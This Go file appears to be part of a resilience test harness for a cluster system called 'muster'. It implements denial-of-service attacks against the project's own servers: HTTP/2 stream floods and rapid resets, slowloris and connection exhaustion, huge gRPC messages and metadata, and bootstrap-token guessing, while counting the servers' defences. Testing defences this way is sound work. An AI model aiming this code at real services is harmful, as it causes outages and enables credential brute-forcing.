package evil

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"

	"github.com/musterd/muster/pki"
	musterv1 "github.com/musterd/muster/proto/muster/v1"
)

// networkModes are a peer that reaches a port and has no certificate (level A0).
var networkModes = map[string]func(context.Context, *run) error{
	"messages-at-coordinator": func(ctx context.Context, r *run) error {
		return r.messages(ctx, r.Coordinators[0].GRPC, "/muster.v1.Coordinator/Register", 15<<20)
	},
	"messages-at-enrollment": func(ctx context.Context, r *run) error {
		return r.messages(ctx, r.Coordinators[0].GRPC, "/muster.v1.Enrollment/Enroll", 15<<20)
	},
	"messages-at-agent": func(ctx context.Context, r *run) error {
		return r.messages(ctx, r.Agents[0].GRPC, "/scheduler.v1.NodeAgent/BindAllocation", 7<<20)
	},
	"streams-at-coordinator":      func(ctx context.Context, r *run) error { return r.streams(ctx, r.Coordinators[0].GRPC, false) },
	"streams-at-agent":            func(ctx context.Context, r *run) error { return r.streams(ctx, r.Agents[0].GRPC, false) },
	"streams-at-rest":             func(ctx context.Context, r *run) error { return r.streams(ctx, r.Coordinators[0].REST, false) },
	"reset-at-coordinator":        func(ctx context.Context, r *run) error { return r.streams(ctx, r.Coordinators[0].GRPC, true) },
	"reset-at-rest":               func(ctx context.Context, r *run) error { return r.streams(ctx, r.Coordinators[0].REST, true) },
	"continuation-at-coordinator": func(ctx context.Context, r *run) error { return r.continuation(ctx, r.Coordinators[0].GRPC) },
	"continuation-at-rest":        func(ctx context.Context, r *run) error { return r.continuation(ctx, r.Coordinators[0].REST) },
	"idle-connections": func(ctx context.Context, r *run) error {
		return r.hold(ctx, 300, idleAfterHandshake, r.Coordinators[0].GRPC, r.Coordinators[0].REST)
	},
	"half-handshakes": func(ctx context.Context, r *run) error {
		return r.hold(ctx, 300, noHandshake, r.Coordinators[0].GRPC, r.Coordinators[0].REST, r.Agents[0].GRPC)
	},
	"slow-headers": func(ctx context.Context, r *run) error {
		return r.hold(ctx, 300, halfARequest, r.Coordinators[0].REST)
	},
	"many-connections": func(ctx context.Context, r *run) error {
		return r.hold(ctx, 2000, noHandshake, r.Coordinators[0].GRPC, r.Coordinators[0].REST)
	},
	"failed-enrollments": failedEnrollments,
	"huge-metadata":      hugeMetadata,
}

// unproven is TLS that believes every server and shows no certificate.
func unproven(protocols ...string) *tls.Config {
	return &tls.Config{MinVersion: tls.VersionTLS13, InsecureSkipVerify: true, NextProtos: protocols} //nolint:gosec // the attacker believes everybody
}

// raw carries bytes as they are.
type raw struct{}

func (raw) Marshal(v any) ([]byte, error)      { return *v.(*[]byte), nil }
func (raw) Unmarshal(data []byte, v any) error { *v.(*[]byte) = data; return nil }
func (raw) Name() string                       { return "proto" }

// messages sends large messages on 200 streams of one connection at once.
func (r *run) messages(ctx context.Context, address, method string, size int) error {
	conn, err := grpc.NewClient("passthrough:///"+address, grpc.WithTransportCredentials(credentials.NewTLS(unproven())),
		grpc.WithDefaultCallOptions(grpc.ForceCodec(raw{}), grpc.MaxCallSendMsgSize(maxMessage)),
		grpc.WithInitialConnWindowSize(1<<30), grpc.WithInitialWindowSize(1<<30))
	if err != nil {
		return err
	}
	defer conn.Close()
	r.ready()
	body := junk(size)
	ctx, cancel := context.WithTimeout(ctx, r.For)
	defer cancel()
	parallel(200, func(int) {
		// Answers that come one after the other are limits at work; each worker
		// goes on for as long as the attack lasts.
		for range r.Size {
			var answer []byte
			err := conn.Invoke(ctx, method, &body, &answer)
			if ctx.Err() != nil {
				return
			}
			r.answered("message", err)
		}
	})
	return nil
}

// junk is a message that every decoder takes for one unknown field.
func junk(size int) []byte {
	b := make([]byte, size)
	head := binary.AppendUvarint([]byte{0xfa, 0x3f}, uint64(size-8)) // field 1023, bytes
	copy(b, head)
	return b[:len(head)+size-8]
}

// frames is one HTTP/2 connection that is spoken by hand.
type frames struct {
	conn   net.Conn
	framer *http2.Framer
	mu     sync.Mutex // of framer's writes

	resets, goAways, limit atomic.Int64
	ended                  chan struct{}
}

func openFrames(ctx context.Context, address string) (*frames, error) {
	dialer := tls.Dialer{NetDialer: &net.Dialer{Timeout: 3 * time.Second}, Config: unproven("h2")}
	conn, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	if p := conn.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
		conn.Close()
		return nil, fmt.Errorf("%s speaks %q, not HTTP/2", address, p)
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, err
	}
	f := &frames{conn: conn, framer: http2.NewFramer(conn, conn), ended: make(chan struct{})}
	if err := f.framer.WriteSettings(); err != nil {
		conn.Close()
		return nil, err
	}
	go f.read()
	return f, nil
}

// read counts how the server defends itself.
func (f *frames) read() {
	defer close(f.ended)
	for {
		frame, err := f.framer.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if v, ok := frame.Value(http2.SettingMaxConcurrentStreams); ok {
				f.limit.Store(int64(v))
			}
			if !frame.IsAck() {
				f.mu.Lock()
				_ = f.framer.WriteSettingsAck()
				f.mu.Unlock()
			}
		case *http2.RSTStreamFrame:
			f.resets.Add(1)
		case *http2.GoAwayFrame:
			f.goAways.Add(1)
		}
	}
}

// streams opens 20,000 streams on one connection after the other, each without
// an end, or each taken back at once.
func (r *run) streams(ctx context.Context, address string, reset bool) error {
	return r.streamsOf(ctx, address, headers("/muster.v1.Coordinator/Register", address), 20_000*min(r.Size, 3), reset)
}

// streamsOf opens n streams with these headers on one connection after the other.
func (r *run) streamsOf(ctx context.Context, address string, block []byte, n int, reset bool) error {
	r.ready()
	until := time.Now().Add(r.For)
	for round := 0; round < 5 && ctx.Err() == nil && time.Now().Before(until); round++ {
		f, err := openFrames(ctx, address)
		if err != nil {
			r.note("connection %d: %v", round+1, err)
			if strings.Contains(err.Error(), "not HTTP/2") {
				r.count("connection: no HTTP/2 without a certificate")
				return nil
			}
			r.count("connection: refused")
			if !pause(ctx, 200*time.Millisecond) {
				break
			}
			continue
		}
		sent := f.flood(block, n, reset, until)
		if sent > 0 {
			r.count("streams: begun")
		}
		select {
		case <-f.ended:
			r.count("connection: closed by the server")
		case <-time.After(time.Second):
		}
		f.conn.Close()
		<-f.ended
		r.note("connection %d: %d streams sent, at most %d at once allowed, %d resets and %d GOAWAY received", round+1, sent, f.limit.Load(), f.resets.Load(), f.goAways.Load())
		if n := f.limit.Load(); n > 0 && n <= 250 {
			r.count("settings: streams are limited")
		}
		if f.goAways.Load() > 0 {
			r.count("connection: GOAWAY")
		}
	}
	return nil
}

func (f *frames) flood(block []byte, n int, reset bool, until time.Time) (sent int) {
	for id := uint32(1); sent < n; id += 2 {
		if sent%256 == 0 && time.Now().After(until) {
			return sent
		}
		_ = f.conn.SetWriteDeadline(time.Now().Add(3 * time.Second))
		f.mu.Lock()
		err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err == nil && reset {
			err = f.framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		f.mu.Unlock()
		if err != nil {
			return sent
		}
		sent++
	}
	return sent
}

func headers(path, authority string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: path}, {Name: ":authority", Value: authority},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	} {
		_ = e.WriteField(f) // into memory
	}
	return b.Bytes()
}

// begin takes a fresh connection as far as an attacker leaves it.
type begin func(ctx context.Context, conn net.Conn) (net.Conn, error)

func noHandshake(_ context.Context, conn net.Conn) (net.Conn, error) { return conn, nil }

func idleAfterHandshake(ctx context.Context, conn net.Conn) (net.Conn, error) {
	t := tls.Client(conn, unproven("h2", "http/1.1"))
	if err := t.HandshakeContext(ctx); err != nil {
		return conn, err
	}
	return t, nil
}

func halfARequest(ctx context.Context, conn net.Conn) (net.Conn, error) {
	t := tls.Client(conn, unproven("http/1.1"))
	if err := t.HandshakeContext(ctx); err != nil {
		return conn, err
	}
	_, err := io.WriteString(t, "GET /api/v1/nodes HTTP/1.1\r\nHost: x\r\nX-Slow: ")
	return t, err
}

// hold opens n connections in all, leaves them unfinished for the whole attack
// and counts those that the servers have closed by its end.
func (r *run) hold(ctx context.Context, n int, begin begin, addresses ...string) error {
	r.ready()
	ctx, cancel := context.WithTimeout(ctx, r.For)
	defer cancel()
	var refused, closed, held atomic.Int64
	parallel(min(n, 2000), func(i int) {
		conn, err := (&net.Dialer{Timeout: 3 * time.Second}).DialContext(ctx, "tcp", addresses[i%len(addresses)])
		if err != nil {
			refused.Add(1)
			return
		}
		defer conn.Close()
		handshake, stop := context.WithTimeout(ctx, 10*time.Second)
		open, err := begin(handshake, conn)
		stop()
		if err != nil {
			closed.Add(1)
			return
		}
		deadline, _ := ctx.Deadline()
		_ = open.SetReadDeadline(deadline)
		_, err = io.Copy(io.Discard, open) // what servers say at the beginning
		var late net.Error
		if errors.As(err, &late) && late.Timeout() {
			held.Add(1)
			return
		}
		closed.Add(1)
	})
	r.note("%d connections: %d refused, %d closed by the server within %s, %d held", n, refused.Load(), closed.Load(), r.For, held.Load())
	if held.Load() == 0 {
		r.count("connections: none held")
	}
	if refused.Load()+closed.Load() > 0 {
		r.count("connections: some closed")
	}
	return nil
}

// failedEnrollments guesses bootstrap tokens as fast as it can.
func failedEnrollments(ctx context.Context, r *run) error {
	conn, err := grpc.NewClient("passthrough:///"+r.Coordinators[0].GRPC, grpc.WithTransportCredentials(credentials.NewTLS(unproven())),
		grpc.WithDefaultCallOptions(grpc.ForceCodec(raw{})))
	if err != nil {
		return err
	}
	defer conn.Close()
	body, err := enrollment(r.Cluster)
	if err != nil {
		return err
	}
	r.ready()
	guess := func(worker, i int) {
		token := fmt.Sprintf("Bearer muster-boot.%010x.%032x.%064x", worker, i, 0)
		call, cancel := context.WithTimeout(metadata.AppendToOutgoingContext(ctx, "authorization", token), 5*time.Second)
		defer cancel()
		var answer []byte
		r.answered("Enroll", conn.Invoke(call, "/muster.v1.Enrollment/Enroll", &body, &answer))
	}
	guess(16, 0) // alone: where the server cuts the connection, the answers on their way are lost
	until := time.Now().Add(r.For)
	var sent atomic.Int64
	parallel(16, func(worker int) {
		for i := 0; sent.Add(1) < int64(300*r.Size) && time.Now().Before(until) && ctx.Err() == nil; i++ {
			guess(worker, i)
		}
	})
	return nil
}

// enrollment is a request that lacks a good token alone.
func enrollment(cluster string) ([]byte, error) {
	key, err := pki.NewKey()
	if err != nil {
		return nil, err
	}
	csr, err := pki.NewRequest(key)
	if err != nil {
		return nil, err
	}
	return proto.Marshal(&musterv1.EnrollRequest{Cluster: cluster, NodeId: "guessed", Csr: csr})
}

// hugeMetadata sends headers of 1 MB with each call.
func hugeMetadata(ctx context.Context, r *run) error {
	conn, err := grpc.NewClient("passthrough:///"+r.Coordinators[0].GRPC, grpc.WithTransportCredentials(credentials.NewTLS(unproven())),
		grpc.WithDefaultCallOptions(grpc.ForceCodec(raw{})))
	if err != nil {
		return err
	}
	defer conn.Close()
	r.ready()
	big := strings.Repeat("x", 1<<20)
	ctx, cancel := context.WithTimeout(ctx, r.For)
	defer cancel()
	parallel(32, func(int) {
		for range 4 * r.Size {
			if ctx.Err() != nil {
				return
			}
			var body, answer []byte
			err := conn.Invoke(metadata.AppendToOutgoingContext(ctx, "x-big", big), "/muster.v1.Enrollment/Enroll", &body, &answer)
			if c := status.Code(err); c != codes.Canceled && c != codes.DeadlineExceeded {
				r.answered("call", err)
			}
		}
	})
	return nil
}
